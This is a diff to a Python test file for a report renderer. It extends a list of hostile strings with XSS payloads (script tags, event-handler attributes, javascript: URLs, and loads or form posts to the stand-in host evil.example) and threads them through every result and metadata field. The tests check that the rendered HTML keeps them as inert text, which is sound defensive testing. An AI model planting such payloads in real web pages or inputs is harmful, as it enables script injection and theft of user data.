@@ -34,10 +34,34 @@ ATTACKS = [
     "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b31mC1 \x00nul \u202ereversed",
     "Élève à l'œuvre : « ça marche » 😀 漢字 \u2028 ligne",
     '=HYPERLINK("http://evil.example")',
+    "</title><script>alert(1)</script>",
+    "</desc></svg><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</pre><img src=x onerror=alert(1)>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=https://evil.example/x.js></script>",
+    "<img src=https://evil.example/pixel.png>",
+    "<img/src=x/onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><button>send</button></form>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<style>@import url(//evil.example/x.css);</style>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
 ]
 
 
-def results(arm: str, answer: Any, n: int = 48) -> dict[str, Any]:
+def results(arm: str, answer: Any, n: int = 80) -> dict[str, Any]:
     """`answer(i)` gives (text, right) of question i; hostile text stands in every field."""
     items = []
     for i in range(n):
@@ -49,25 +73,30 @@ def results(arm: str, answer: Any, n: int = 48) -> dict[str, Any]:
                 "question": f"Question {i:02} {attack}",
                 "expected_answer": f"expected {attack}",
                 "generated_answer": text,
-                "metrics": {"success": float(right), attack[:30]: 0.5},
-                "stratum": ["recall", "<b>unseen</b>"][i % 2],
+                "metrics": {"success": float(right), **dict.fromkeys(ATTACKS, 0.5)},
+                "stratum": attack if i < len(ATTACKS) else ["recall", "<b>unseen</b>"][i % 2],
                 "document": f"d{i // 3} {attack}",
                 "chunk": f"c{i}",
                 "sources": [{"chunk": f"c{i}{attack}", "score": 1.25}],
-                "time_seconds": 0.25,
+                "time_seconds": 0.25 + 0.001 * i if arm == "rag" else 0.125,
                 "tokens": 30,
                 "prompt_tokens": 20,
                 "completion_tokens": 10,
                 "error": attack if i == 7 else None,
             }
         )
-    kinds = {"success": {"unit": "rate", "higher_is_better": True}}
+    kinds = {name: {"unit": "rate", "higher_is_better": True} for name in ("success", *ATTACKS)}
     return {
         "metadata": {
             "arm": arm,
             "timestamp": "2026-11-02T08:00:00",
             "base_model": {"name": ATTACKS[0], "source": "folder", "revision": None},
             "decoding": {"max_new_tokens": 64},
+            "engine": {"name": ATTACKS[1], "version": ATTACKS[2]},
+            "questions": {"file": ATTACKS[3], "sha256": ATTACKS[4], "asked": 80},
+            "index": {"retriever": ATTACKS[5], "k": ATTACKS[6], "seconds": 12.5},
+            "training": {"seconds": 300.25, "device": ATTACKS[7]},
+            "plugins": [{"name": attack, "distribution": attack, "version": attack} for attack in ATTACKS],
         },
         "metrics": {"summaries": kinds},
         "results": items,
@@ -109,13 +138,23 @@ class Page(HTMLParser):
         self.text += data
 
 
+def test_there_are_forty_attacks() -> None:
+    assert len(set(ATTACKS)) == 40
+
+
 def test_hostile_text_stays_text_in_html(written: tuple[str, dict[str, str]]) -> None:
     page = Page(written[1]["html"])
     tags = {tag for tag, _ in page.tags}
-    assert not tags & {"script", "img", "iframe", "object", "embed", "base", "link", "form", "a", "b"}
+    assert tags <= {
+        *("html", "head", "meta", "title", "style", "body", "header", "main", "section", "article", "div", "span"),
+        *("h1", "h2", "h3", "p", "ul", "li", "dl", "dt", "dd", "pre", "strong", "blockquote", "details", "summary"),
+        *("table", "thead", "tbody", "tr", "th", "td", "svg", "g", "line", "rect", "circle", "text", "desc"),
+    }
     for _, attributes in page.tags:
         assert not [name for name in attributes if name.startswith("on") or name in ("src", "href", "style")]
     assert "<script>alert(1)</script>" in page.text
+    assert sum(tag == "meta" for tag, _ in page.tags) == 5
+    assert sum(tag == "style" for tag, _ in page.tags) == 1
     assert "{{ 7*7 }}" in page.text
 
 
@@ -175,6 +214,8 @@ def test_every_number_in_the_markdown_stands_in_the_json(written: tuple[str, dic
     comparison = json.loads(report["json"])
     # The sentences are left out: what they say must stand among the numbers too.
     comparison["recommendations"] = [r["rests_on"] for r in comparison["recommendations"]]
+    comparison["next_steps"] = [step["numbers"] for step in comparison["next_steps"]]
+    del comparison["cost"]["sentences"], comparison["cost"]["missing"], comparison["method"]["commands"]
     collect(comparison)
     text = report["markdown"].replace("\\", "")
     text = re.sub(r"(?<=\d),(?=\d)", ".", text) if lang == "fr" else text
@@ -186,7 +227,7 @@ def test_every_number_in_the_markdown_stands_in_the_json(written: tuple[str, dic
 
 def test_json_is_the_comparison(written: tuple[str, dict[str, str]]) -> None:
     comparison = Comparison.model_validate_json(written[1]["json"])
-    assert comparison.n_questions == 48
+    assert comparison.n_questions == 80
     assert comparison.measured == "2026-11-02T08:00:00"
 
 
